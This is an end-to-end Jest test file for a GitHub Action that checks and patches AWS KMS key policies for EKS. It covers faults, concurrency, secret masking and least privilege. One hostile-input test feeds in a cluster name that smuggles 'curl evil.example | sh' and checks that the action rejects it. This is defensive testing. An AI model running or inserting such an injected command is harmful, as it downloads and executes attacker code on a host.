/**
 * Issue: hardening. Faults, concurrency, hostile input, secrets and least privilege — each end to
 * end with the bundled action against the simulator.
 */
import { afterEach, describe, expect, it } from '@jest/globals'
import type { Session } from '../../sim/harness.js'
import { compressedInputs, runAction } from '../../sim/harness.js'
import {
  currentPolicy,
  operations,
  rootPolicy,
  runScenario,
  waitCommand,
  withIncidentKeyPolicy
} from '../support/e2e.js'

let session: Session | undefined
afterEach(async () => {
  await session?.close()
  session = undefined
})

const SECRETS = [
  'example/secret/access/key/EXAMPLEKEY',
  'FwoGZXIvYXdzEXAMPLESESSIONTOKEN',
  'ASIAEXAMPLEACCESSKEY',
  'ghs_exampletoken0000000000000000000000'
]

/** Everything the action wrote, less the ::add-mask:: commands that tell the runner what to hide. */
function written(everything: string): string {
  return everything
    .split('\n')
    .filter(l => !l.startsWith('::add-mask::'))
    .join('\n')
}

export const VERIFY_ACTIONS = [
  'eks:DescribeCluster',
  'eks:ListNodegroups',
  'eks:DescribeNodegroup',
  'eks:ListUpdates',
  'eks:DescribeUpdate',
  'eks:ListAddons',
  'eks:DescribeAddon',
  'eks:DescribeAddonVersions',
  'autoscaling:DescribeAutoScalingGroups',
  'autoscaling:DescribeScalingActivities',
  'ec2:DescribeLaunchTemplateVersions',
  'ec2:GetEbsEncryptionByDefault',
  'ec2:GetEbsDefaultKmsKeyId',
  'kms:DescribeKey',
  'kms:GetKeyPolicy',
  'kms:ListGrants',
  'iam:GetRole',
  'ec2:DescribeInstances',
  'ec2:DescribeLaunchTemplates',
  'eks:ListPodIdentityAssociations',
  'eks:DescribePodIdentityAssociation',
  'iam:SimulatePrincipalPolicy'
]

describe('AWS faults', () => {
  it.each([
    ['5xx on every operation', { operation: '*', errorRate: 0.3 }],
    ['connection resets', { operation: '*', resetRate: 0.2 }],
    ['throttling bursts', { operation: '*', throttleRate: 0.6, fromSeconds: 0, untilSeconds: 20 }]
  ])('%s: still the right verdict', async (_label, fault) => {
    const result = await runScenario(
      'incident',
      { mode: 'verify' },
      { overrides: { faults: [fault] } }
    )
    session = result.session
    expect(result.run.outputs).toMatchObject({
      result: 'failure',
      'root-cause': 'kms-policy-missing-autoscaling-role'
    })
  })

  it('5xx while deploying: the policy is patched once and nothing is lost', async () => {
    const result = await runScenario(
      'incident',
      { mode: 'deploy' },
      { overrides: { faults: [{ operation: '*', errorRate: 0.25 }] } }
    )
    session = result.session
    expect(result.run.outputs).toMatchObject({ result: 'success', 'policy-changed': 'true' })
    expect(currentPolicy(session).Statement.map(s => s.Sid)).toEqual([
      'Enable IAM User Permissions',
      'Allow EKS to use the key',
      'EksKmsGuardAutoScalingUse',
      'EksKmsGuardAutoScalingGrants'
    ])
  })

  it('responses slower than the SDK timeout for a while: the watch carries on and decides', async () => {
    const result = await runScenario(
      'incident',
      { mode: 'verify' },
      {
        overrides: {
          faults: [{ operation: 'DescribeScalingActivities', latencyMs: 2500, untilSeconds: 150 }]
        }
      }
    )
    session = result.session
    expect(result.run.outputs['root-cause']).toBe('kms-policy-missing-autoscaling-role')
  })

  it('AWS hanging forever never keeps the run past timeout-minutes', async () => {
    const result = await runScenario(
      'incident',
      { mode: 'verify', 'timeout-minutes': '0.05' },
      { overrides: { faults: [{ operation: 'DescribeNodegroup', latencyMs: 60_000 }] } }
    )
    session = result.session
    expect(result.run.outputs.result).toBe('timeout')
    // The hung requests' time passes in the run's clock: it ends within the 3 s of timeout-minutes
    // plus the one request (2 s timeout) that was under way when it passed.
    const events = result.run.timeline?.events ?? []
    const at = (kind: string) => Date.parse(events.find(e => e.kind === kind)?.time ?? '')
    expect(at('verdict') - at('started')).toBeLessThanOrEqual(5_000)
  })

  it('credentials that expire mid-watch fail with the fix, not a stack trace', async () => {
    const result = await runScenario(
      'late-nodegroup',
      {
        mode: 'deploy',
        'patch-policy': 'false',
        command: waitCommand(30),
        'nodegroup-names': 'node-group-synthar3eg'
      },
      { overrides: { faults: [{ operation: '*', expiredToken: true, fromSeconds: 60 }] } }
    )
    session = result.session
    expect(result.run.exitCode).toBe(1)
    expect(result.run.outputs['root-cause']).toBe('aws-credentials-expired')
    expect(result.run.stdout).toMatch(
      /::error::\[aws-credentials-expired\] The AWS credentials expired while calling \w+:\w+/
    )
    expect(result.run.stdout).toContain('role-duration-seconds')
  })

  it.each([
    ['DescribeCluster', 'eks:DescribeCluster', 'eks-cluster-synthar3eg'],
    ['ListNodegroups', 'eks:ListNodegroups', 'eks-cluster-synthar3eg'],
    ['DescribeNodegroup', 'eks:DescribeNodegroup', 'eks-cluster-synthar3eg/node-group-synthar3eg'],
    [
      // The first DescribeAutoScalingGroups is the search for the cluster's self-managed groups.
      'DescribeAutoScalingGroups',
      'autoscaling:DescribeAutoScalingGroups',
      'Auto Scaling groups tagged for cluster eks-cluster-synthar3eg'
    ],
    [
      'DescribeScalingActivities',
      'autoscaling:DescribeScalingActivities',
      'eks-node-group-synthar3eg-'
    ],
    [
      'DescribeLaunchTemplateVersions',
      'ec2:DescribeLaunchTemplateVersions',
      'lt-0abc1234def567890'
    ],
    [
      'DescribeKey',
      'kms:DescribeKey',
      'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab'
    ],
    [
      'GetKeyPolicy',
      'kms:GetKeyPolicy',
      'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab'
    ],
    [
      'PutKeyPolicy',
      'kms:PutKeyPolicy',
      'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab'
    ],
    ['GetCallerIdentity', 'sts:GetCallerIdentity', '']
  ])(
    'AccessDenied on %s names the IAM action and the resource',
    async (operation, action, resource) => {
      const result = await runScenario(
        'incident',
        { mode: 'deploy' },
        { overrides: { faults: [{ operation, accessDenied: true }] } }
      )
      session = result.session
      expect(result.run.exitCode).toBe(1)
      expect(result.run.stdout).toContain(
        `Access denied for ${action}${resource ? ` on ${resource}` : ''}`
      )
      expect(operations(session, operation)).toBe(1)
    }
  )
})

describe('GitHub faults on the comment', () => {
  it.each([404, 422, 502])(
    '%i: a warning, the verdict unchanged, no duplicate comment',
    async status => {
      const result = await runScenario(
        'incident',
        { mode: 'verify' },
        {
          event: { pull_request: { number: 7 } },
          eventName: 'pull_request',
          github: { writeStatus: status }
        }
      )
      session = result.session
      expect(result.run.outputs['root-cause']).toBe('kms-policy-missing-autoscaling-role')
      expect(result.run.stdout).toMatch(
        new RegExp(`::warning::Could not write the pull request comment \\(${status}`)
      )
      expect(session.github.comments.get(7) ?? []).toHaveLength(0)
    }
  )

  it('every GitHub call failing still leaves the job summary', async () => {
    const result = await runScenario(
      'correct-policy',
      { mode: 'verify' },
      {
        event: { pull_request: { number: 7 } },
        eventName: 'pull_request',
        github: { allStatus: 503 }
      }
    )
    session = result.session
    expect(result.run.exitCode).toBe(0)
    expect(result.run.summary).toContain('verify passed')
  })
})

describe('concurrency', () => {
  it('two deploys patching the same key at once keep every statement and add the grant once', async () => {
    // Two processes at once run on the machine's time (one in-process run at a time shares the
    // simulated clock): the node group starts creating ten minutes of scenario time (10 s) in, so
    // both deploys have started and written however slowly the machine starts them.
    const result = await runScenario(
      'incident',
      { mode: 'verify', 'timeout-minutes': '0.01' },
      { overrides: { nodegroups: [{ name: 'node-group-synthar3eg', createAfterSeconds: 600 }] } }
    )
    session = result.session
    // Named, so both wait for it (a node group not created yet is waited for, not "nothing to watch").
    // A generous propagation grace: on the machine's time a starved process may poll long after
    // its write; what is tested here is that no statement is lost, not the grace.
    const inputs = compressedInputs(session.sim.world.scenario, {
      mode: 'deploy',
      'nodegroup-names': 'node-group-synthar3eg',
      'propagation-grace-seconds': '30'
    })
    const [a, b] = await Promise.all([
      session.run({ inputs, runner: 'tsx' }),
      session.run({ inputs, runner: 'tsx' })
    ])
    const sids = currentPolicy(session).Statement.map(s => s.Sid)
    expect(sids).toEqual([
      'Enable IAM User Permissions',
      'Allow EKS to use the key',
      'EksKmsGuardAutoScalingUse',
      'EksKmsGuardAutoScalingGrants'
    ])
    for (const run of [a, b])
      expect({ result: run.outputs.result, cause: run.outputs['root-cause'] }).toEqual({
        result: 'success',
        cause: ''
      })
    expect([a, b].some(run => run.outputs['policy-changed'] === 'true')).toBe(true)
  })
})

describe('hostile input', () => {
  it('a cluster name with shell metacharacters is refused before any AWS call', async () => {
    const result = await runScenario('incident', {
      mode: 'verify',
      'cluster-name': 'prod; curl evil.example | sh'
    })
    session = result.session
    expect(result.run.exitCode).toBe(1)
    expect(result.run.stdout).toContain("Input 'cluster-name' has the value")
    expect(session.sim.world.calls).toHaveLength(0)
  })

  it('a key policy that is not JSON is never written over', async () => {
    const result = await runScenario(
      'incident',
      { mode: 'deploy', 'timeout-minutes': '0.03' },
      {
        overrides: withIncidentKeyPolicy('{"Version": "2012-10-17", "Statement": [ not json')
      }
    )
    session = result.session
    expect(operations(session, 'PutKeyPolicy')).toBe(0)
    expect(result.run.outputs.result).toBe('failure')
    expect(result.run.stdout).toContain('The key policy is not valid JSON')
  })

  it('a 40 KB key policy is read, not truncated, and not written', async () => {
    const filler = Array.from({ length: 220 }, (_, i) => ({
      Sid: `App${i}`,
      Effect: 'Allow',
      Principal: { AWS: `arn:aws:iam::111122223333:role/application-role-number-${i}` },
      Action: ['kms:Decrypt', 'kms:Encrypt', 'kms:DescribeKey'],
      Resource: '*'
    }))
    const policy = rootPolicy(...filler)
    // Over the quota as KMS measures it: the document as sent, without our indentation.
    expect(JSON.stringify(policy).length).toBeGreaterThan(40_000)
    const result = await runScenario(
      'incident',
      { mode: 'deploy' },
      { overrides: withIncidentKeyPolicy(policy) }
    )
    session = result.session
    expect(operations(session, 'PutKeyPolicy')).toBe(0)
    expect(currentPolicy(session).Statement).toHaveLength(221)
    expect(result.run.stdout).toContain('create a grant for the Auto Scaling role instead')
  })
})

describe('secrets', () => {
  it('no credential or token appears in anything the action wrote', async () => {
    for (const [scenario, mode] of [
      ['incident', 'verify'],
      ['incident', 'deploy'],
      ['throttled', 'verify']
    ] as const) {
      const result = await runScenario(
        scenario,
        { mode },
        { event: { pull_request: { number: 7 } }, eventName: 'pull_request' }
      )
      const comment = (result.session.github.comments.get(7) ?? []).map(c => c.body).join('\n')
      const requests = JSON.stringify(result.session.github.requests)
      for (const secret of SECRETS) {
        expect(written(result.run.everything)).not.toContain(secret)
        expect(comment).not.toContain(secret)
        expect(requests).not.toContain(secret)
      }
      await result.session.close()
    }
  })
})

describe('least privilege', () => {
  it('verify completes with only the README’s verify permissions', async () => {
    const result = await runScenario(
      'incident',
      { mode: 'verify' },
      { overrides: { allowedActions: VERIFY_ACTIONS } }
    )
    session = result.session
    expect(result.run.outputs['root-cause']).toBe('kms-policy-missing-autoscaling-role')
    expect(session.sim.world.calls.filter(c => c.errorCode?.startsWith('AccessDenied'))).toEqual([])
  })

  it('deploy completes with only the README’s deploy permissions', async () => {
    const result = await runScenario(
      'missing-service-linked-role',
      { mode: 'deploy', 'nodegroup-names': 'node-group-synthar3eg' },
      {
        overrides: {
          allowedActions: [...VERIFY_ACTIONS, 'kms:PutKeyPolicy', 'iam:CreateServiceLinkedRole']
        }
      }
    )
    session = result.session
    expect(result.run.outputs).toMatchObject({ result: 'success', 'policy-changed': 'true' })
  })

  it('check needs no AWS permission at all', async () => {
    const run = await runAction({
      inputs: {
        mode: 'check',
        'working-directory': '__tests__/fixtures/terraform/incident-fixed',
        'pr-comment': 'false'
      },
      cwd: process.cwd()
    })
    expect(run.outputs.result).toBe('success')
  })
})
